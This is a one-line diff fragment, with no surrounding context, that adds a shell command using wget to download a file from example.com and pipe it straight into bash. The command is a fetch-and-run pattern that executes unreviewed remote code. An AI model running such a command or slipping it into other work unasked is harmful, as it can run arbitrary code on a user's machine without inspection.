@@ -1,0 +1,1 @@
+wget https://example.com/x -O - | bash -s -- -y
